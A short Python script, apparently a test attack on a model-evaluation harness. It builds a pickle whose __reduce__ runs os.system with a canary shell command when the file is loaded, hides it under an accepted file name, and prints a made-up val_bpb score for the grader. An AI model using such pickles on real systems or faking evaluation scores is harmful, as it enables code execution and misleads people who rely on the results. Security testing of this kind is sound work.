"""Attack: hand in a model archive holding a pickle that runs a shell command when loaded.

The archive (build_models.with_evil_member) is a real exported program whose
`data/sample_inputs/model.pt`, a name the evaluator accepts, is a code-running pickle.
A plain code-running pickle is also left as out/model.pt.
"""

import os
import pickle
import shutil

from prepare import OUT_DIR

COMMAND = "touch pwned-canary; touch /tmp/pwned-canary; echo PWNED"


class Evil:
    def __reduce__(self):
        return (os.system, (COMMAND,))


shutil.copyfile("model_in.pt2", os.path.join(OUT_DIR, "model.pt2"))  # pickle_model.pt2
with open(os.path.join(OUT_DIR, "model.pt"), "wb") as f:
    pickle.dump(Evil(), f)
print("handed in an archive with a code-running pickle")
print("---")
print("val_bpb:          0.010000")
